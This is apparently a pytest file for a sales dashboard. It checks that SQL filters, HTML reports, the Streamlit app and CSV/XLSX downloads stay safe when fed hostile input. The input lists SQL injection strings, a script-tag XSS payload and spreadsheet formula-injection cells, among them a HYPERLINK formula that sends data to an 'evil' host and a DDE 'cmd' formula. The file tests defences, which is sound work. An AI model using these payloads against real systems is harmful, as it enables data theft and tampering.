"""Every user value that reaches SQL is bound, text from exports renders as text, and
downloads carry no formulas.

One small demo store (400 orders) plus a hostile export: an order, a sku, a channel, a family
and a supplier whose names are SQL, HTML and formulas. Every metric is run with hostile filter
values; what-if scenarios are saved under hostile names; the order timeline is asked for
hostile ids. Each must answer without error and leave the data exactly as it was.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from dashboard import demo, report, store, ui, whatif
from dashboard.contract import TABLES
from dashboard.importer import import_paths
from dashboard.metrics import REGISTRY, reviews
from dashboard.params import Filters, Period, Settings

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "dashboard" / "app.py")
HOSTILE = Path(__file__).parent / "hostile"
WEEK = Period.week("2026-W47")

SCRIPT = "<script>alert(1)</script>"
EVIL_ORDER = SCRIPT
EVIL_SKU = "O'Brien\"; drop table order_lines; --"
EVIL_CHANNEL = "web'/* x */"
EVIL_FAMILY = "'; delete from skus; --"
EVIL_SUPPLIER = "Zoë & Söhne <b>GmbH</b> 🎁"

VALUES = [
    "'",
    '"',
    "''",
    "';",
    "'; drop table order_lines; --",
    "' or '1'='1",
    "x' union select order_id from order_lines --",
    "--",
    "/*",
    "*/",
    "/* ' */",
    ";",
    "$from_date",
    "?",
    "%",
    "_",
    "\\",
    "\\'",
    "NULL",
    "",
    " ",
    "Zoë",
    "日本茶",
    "🎁",
    "\u202eevil",
    "a\nb",
    "x" * 5000,
]


def checksums(db: Path) -> dict[str, tuple]:
    with store.connect(db) as con:
        return {
            t: con.execute(f"select count(*), coalesce(sum(hash(t)), 0) from {t} as t").fetchall()[
                0
            ]
            for t in [*TABLES, "imports", "import_files", "rejects", "dataset"]
        }


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("injection")
    files = demo.generate(folder / "csv", orders=400)
    path = folder / "db.duckdb"
    assert import_paths(list(files.values()), path, timezone=demo.DEMO_TIMEZONE).ok
    evil = folder / "evil"
    evil.mkdir()
    rows = {
        "order_lines": [
            {"order_id": EVIL_ORDER, "line_id": "1", "ordered_at": "2026-11-17T10:00:00Z",
             "sku": EVIL_SKU, "qty": "2", "unit_price": "9.5", "channel": EVIL_CHANNEL,
             "backordered_qty": "2", "backorder_reason": "supplier_delay"},
            {"order_id": EVIL_ORDER, "line_id": "2", "ordered_at": "2026-11-17T10:00:00Z",
             "sku": "=1+2", "qty": "1", "unit_price": "3", "channel": EVIL_CHANNEL,
             "backordered_qty": "0"},
        ],
        "skus": [
            {"sku": EVIL_SKU, "title": SCRIPT, "family": EVIL_FAMILY, "supplier": EVIL_SUPPLIER,
             "price": "9.5"},
        ],
    }  # fmt: skip
    for table, table_rows in rows.items():
        with open(files[table], newline="") as f:
            header = next(csv.reader(f))  # the demo's columns, so presence does not change
        with open(evil / f"{table}.csv", "w", newline="") as f:
            out = csv.DictWriter(f, header)
            out.writeheader()
            out.writerows(table_rows)
    assert import_paths([evil / "order_lines.csv", evil / "skus.csv"], path).ok
    return path


def all_metrics(con, filters: Filters) -> dict[str, pl.DataFrame]:
    return {name: fn(con, WEEK, filters, Settings()) for name, fn in REGISTRY.items()}


@pytest.mark.slow
def test_hostile_filter_values_are_bound_in_every_metric(db):
    before = checksums(db)
    with store.connect(db) as connection:
        con = store.cursor(connection)
        nothing = all_metrics(con, Filters(channel=("no such channel",)))
        for value in VALUES:
            # every filter parameter at once, through every metric
            filters = Filters(channel=(value,), supplier=(value,), family=(value,), sku=(value,))
            got = all_metrics(con, filters)
            # a value no row has selects nothing: the figures of any unknown value
            for name in ("backorder_rate", "backorder_age", "silent_backorders", "hygiene"):
                assert got[name].equals(nothing[name]), (name, value)
        con.close()
    assert checksums(db) == before


def test_a_hostile_name_that_exists_selects_exactly_its_rows(db):
    both = {None: 2, EVIL_SKU: 1, "=1+2": 1}
    one = {None: 1, EVIL_SKU: 1}
    with store.connect(db) as connection:
        con = store.cursor(connection)
        for filters, expected in (
            (Filters(sku=(EVIL_SKU,)), one),
            (Filters(channel=(EVIL_CHANNEL,)), both),
            (Filters(channel=(EVIL_CHANNEL,), sku=(EVIL_SKU, "=1+2")), both),
            (Filters(family=(EVIL_FAMILY,)), one),
            (Filters(supplier=(EVIL_SUPPLIER,)), one),
        ):
            rate = REGISTRY["backorder_rate"](con, WEEK, filters, Settings())
            got = dict(zip(rate["sku"], rate["count_lines"], strict=True))
            assert got == expected, filters  # the null sku row is the total
        con.close()


def test_hostile_order_ids_in_the_timeline_are_bound(db):
    before = checksums(db)
    with store.connect(db) as connection:
        con = store.cursor(connection)
        for value in VALUES:
            assert reviews.order_timeline(con, value).height == 0, value
        events = reviews.order_timeline(con, EVIL_ORDER)
        con.close()
    assert events["event"].to_list() == ["ordered", "backordered"]
    assert events["sku"].to_list() == [None, EVIL_SKU]
    assert EVIL_CHANNEL in events["detail"][0]
    assert checksums(db) == before


def test_scenarios_saved_under_hostile_names_round_trip(db, tmp_path):
    data = tmp_path / "db.duckdb"
    shutil.copyfile(db, data)
    before = checksums(data)
    scenario = whatif.Scenario(cap_default=3, sku_caps=((EVIL_SKU, 1),))
    names = [v for v in VALUES if v.strip()]
    for name in names:
        whatif.save(data, name, scenario)
    saved = whatif.listed(data)["name"].to_list()
    assert sorted(saved) == sorted({n.strip() for n in names})
    for name in saved:
        assert whatif.load(data, name) == scenario
    whatif.delete(data, "'; drop table order_lines; --")
    assert whatif.listed(data).height == len(saved) - 1
    with pytest.raises(ValueError, match="a scenario needs a name"):
        whatif.save(data, " ", scenario)
    with pytest.raises(KeyError, match="no saved scenario named"):
        whatif.load(data, "' or '1'='1' --x")
    assert checksums(data) == before


def test_export_text_is_escaped_in_the_weekly_pack(db):
    with store.connect(db) as connection:
        con = store.cursor(connection)
        html = report.weekly_pack_html(
            con, WEEK, Filters(sku=(EVIL_SKU,), supplier=(EVIL_SUPPLIER,)), Settings()
        )
        con.close()
    assert SCRIPT not in html
    assert "<b>GmbH</b>" not in html
    assert "Zoë &amp; Söhne &lt;b&gt;GmbH&lt;/b&gt; 🎁" in html
    assert "O&#x27;Brien&quot;; drop table order_lines; --" in html
    # the only scripts are the pack's own: Plotly's library and its chart calls
    scripts = re.findall(r"<script[^>]*>\s*(.{0,16})", html)
    assert scripts
    assert {body for body in scripts} <= {"/**", "window.PLOTLYENV"}, scripts


def test_export_text_shows_as_data_in_the_app(db, monkeypatch):
    monkeypatch.setenv("DASHBOARD_DB", str(db))
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params.update({"order": EVIL_ORDER, "week": "2026-W47"})
    at.switch_page("../pages/timeline.py").run()
    assert not at.exception, [e.message for e in at.exception]
    assert at.text_input(key="order").value == EVIL_ORDER
    shown = [d.value for d in at.dataframe if "sku" in d.value.columns]
    assert shown, "no table with sku"
    assert list(shown[0]["sku"].dropna()) == [EVIL_SKU]  # pandas: the order row has none
    # no element renders HTML: markdown is never unsafe, no st.html
    assert all(not m.allow_html for m in at.markdown)
    assert not at.get("html")
    assert all(SCRIPT not in m.value or not m.allow_html for m in at.markdown)


def test_downloads_neutralise_formula_cells_from_an_export(tmp_path):
    db = tmp_path / "db.duckdb"
    shutil.copyfile(HOSTILE / "formula_cells" / "order_lines.csv", tmp_path / "order_lines.csv")
    import_paths([tmp_path / "order_lines.csv"], db)
    with store.connect(db) as con:
        frame = con.sql(
            "select order_id, sku, channel, customer_id, qty, unit_price, ordered_at "
            "from order_lines order by _source_row"
        ).pl()
    frame = pl.concat(
        [
            frame,
            frame.head(1).with_columns(
                order_id=pl.lit("\tTAB"), sku=pl.lit("\rCR"), channel=pl.lit("-1+2")
            ),
        ]
    )
    assert frame.height == 3
    dangerous = ("=", "+", "-", "@", "\t", "\r")

    rows = list(csv.reader(io.StringIO(ui.to_csv(frame).decode("utf-8"), newline="")))
    assert rows[0] == [
        "order_id",
        "sku",
        "channel",
        "customer_id",
        "qty",
        "unit_price",
        "ordered_at",
    ]
    cells = [c for row in rows[1:] for c in row[:4]]
    assert not [c for c in cells if c.startswith(dangerous)]
    assert rows[1][:4] == ['\'=HYPERLINK("http://evil/?"&A1)', "'=1+2", "'+web", "'@SUM(A1)"]
    assert rows[2][:4] == ["FC-2", "'-MUG", "'@channel", "'=cmd|' /C calc'!A0"]
    assert rows[3][:3] == ["'\tTAB", "'\rCR", "'-1+2"]
    assert rows[1][4:6] == ["1", "9.0"]  # numbers stay numbers

    book = zipfile.ZipFile(io.BytesIO(ui.to_xlsx(frame, "lines")))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = re.findall(r"<t[^>]*>([^<]*)</t>", book.read("xl/sharedStrings.xml").decode())
    assert "<f>" not in sheet
    texts = [s.replace("&amp;", "&").replace("&quot;", '"') for s in strings]
    for text in texts:
        assert not text.startswith(dangerous), text
    assert '\'=HYPERLINK("http://evil/?"&A1)' in texts
    assert "'@SUM(A1)" in texts


def test_the_demo_week_has_the_hostile_lines(db):
    # guards the fixtures above: the week they filter holds the hostile order
    with store.connect(db) as con:
        assert con.execute(
            "select count(*) from order_lines where order_id = ? and ordered_date >= ?",
            [EVIL_ORDER, date(2026, 11, 16)],
        ).fetchall() == [(2,)]
